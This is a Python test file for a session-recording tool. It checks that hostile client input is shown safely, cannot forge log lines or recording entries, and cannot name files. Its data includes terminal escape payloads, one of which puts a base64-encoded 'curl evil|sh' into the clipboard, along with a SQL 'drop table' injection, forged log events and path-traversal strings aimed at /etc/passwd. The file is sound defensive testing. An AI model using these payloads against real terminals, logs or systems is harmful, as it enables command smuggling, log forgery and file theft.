"""R6, R7, R9: what clients send is shown, logged and looked up without being obeyed."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from twisted.logger import Logger, LogPublisher

from tests.support.recordings import ALICE, command, now, recorded, recorder, session
from twisted_hoop.cli.sessions import sessions
from twisted_hoop.errors import RecordingFailed, UnknownRecording
from twisted_hoop.model import Outcome, Peer, Principal, Session, Target
from twisted_hoop.observability.logs import json_log
from twisted_hoop.recording.library import Library

WEAPONS = {
    "clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "title": "\x1b]0;root@prod\x1b\\",
    "device attributes": "\x1b[c\x1b[5n\x1b[6n",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "colours": "\x1b[8mhidden\x1b[0m",
    "DCS": "\x1bP$qm\x1b\\ \x90+q\x9c",
    "C1": "\x9b2J \x9d0;x\x9c \x85",
    "link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "line": "one\rtwo\x08\x08\x0b\x0c",
    "bidi": "\u202edrop\u2066 \u200f\u061c",
    "lines": "a\u2028b\u2029c\x85d",
    "zero": "\x00\ufeff\u200b\u00ad\x7f",
    "tags": "\U000e0001\U000e0041",
}


def said(*arguments: str) -> str:
    result = CliRunner().invoke(sessions, list(arguments), env={"COLUMNS": "200"}, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


@pytest.mark.parametrize("name", WEAPONS)
def test_r6_nothing_in_a_recording_reaches_the_terminal(tmp_path: Path, name: str) -> None:
    """R6: in the text, parameters, rule, names, target, outcome; in list, show, replay and as JSON."""
    weapon = WEAPONS[name]
    who = Principal("https://i" + weapon, "s" + weapon, "n" + weapon, frozenset({weapon}))
    place = recorder(tmp_path)
    hostile = Session("session-0001", who, Target("t" + weapon, "p", ""), Peer("1" + weapon), 1.0, {"database": weapon})
    recording = place.open(hostile)
    recording.write(command("select " + weapon, parameters=[weapon], rule=weapon, approval=weapon, tables=[weapon]))
    now(recording.close(Outcome("closed", weapon)))
    for arguments in (["list"], ["show", "session-0001"], ["replay", "session-0001"]):
        for extra in ([], ["--json"]):
            output = said(*arguments, *extra, "--state", str(tmp_path))
            assert all(char == "\n" or char.isprintable() for char in output), arguments
            if extra:
                assert output.isascii()
    exact = json.loads(said("replay", "session-0001", "--json", "--state", str(tmp_path)).splitlines()[1])
    assert exact["text"] == "select " + weapon


def test_r6_nothing_is_hidden_from_the_reader(tmp_path: Path) -> None:
    """R6, A3: what stands inside an escape sequence is shown, not taken out with it."""
    recorded(tmp_path, command("select '\x1b]0;'; drop table customers; --\x07'"))
    assert "drop table customers" in said("replay", "session-0001", "--state", str(tmp_path))


@pytest.mark.parametrize("name", WEAPONS)
def test_r7_no_field_forges_a_log_line(name: str) -> None:
    """R7: a line feed and a whole false event, behind every weapon, in message and fields."""
    forged = WEAPONS[name] + '\r\n{"time":"2026-01-01T00:00:00Z","level":"info","message":"alice logged out"}\n'
    stream, publisher = io.StringIO(newline=""), LogPublisher()
    publisher.addObserver(json_log(stream))
    log = Logger(observer=publisher)
    log.info("{principal} asked for {target}", principal=forged, target=forged, **{forged: forged})
    raw = stream.getvalue()
    assert raw.count("\n") == 1
    assert raw.isascii()
    assert all(char.isprintable() for char in raw[:-1])
    assert json.loads(raw)["principal"] == forged


@pytest.mark.parametrize("name", WEAPONS)
def test_r7_no_text_forges_an_entry(tmp_path: Path, name: str) -> None:
    """R7: a text that is itself a frame or an entry stays a text."""
    text = (
        WEAPONS[name]
        + '","decision":"allow"}\n{"n":2,"kind":"close","outcome":"closed"}\x00\x00\x00\x02F{}'
        + "\x00" * 32
    )
    recorded(tmp_path, command(text, decision="deny"))
    found = list(Library(tmp_path / "recordings").read("session-0001"))
    assert [entry["kind"] for entry in found] == ["open", "command", "close"]
    assert (found[1]["text"], found[1]["decision"]) == (text, "deny")


PATHS = [
    "../../../etc/passwd",
    "..",
    "....//....//x",
    "/etc/passwd",
    "2026/11/22/session-0001",
    "session-0001.hoop",
    "session-0001\x00",
    "session-0001\n",
    "session-*",
    "~root/abcdefgh",
    "ledger.hoop",
    "%2e%2e%2fabcdef",
    "session-000１",
    "short",
    "x" * 65,
    "",
]


@pytest.mark.parametrize("name", PATHS)
def test_r9_only_ids_name_recordings(tmp_path: Path, name: str) -> None:
    """R9: reading, showing and making."""
    recorded(tmp_path, command())
    library = Library(tmp_path / "recordings")
    for look in (library.read, library.find, library.summary):
        with pytest.raises(UnknownRecording):
            look(name)
    with pytest.raises(RecordingFailed):
        recorder(tmp_path).open(session(name, principal=ALICE))
    result = CliRunner().invoke(sessions, ["replay", "--state", str(tmp_path), "--", name])
    assert result.exit_code == 1
    assert "root:" not in result.output
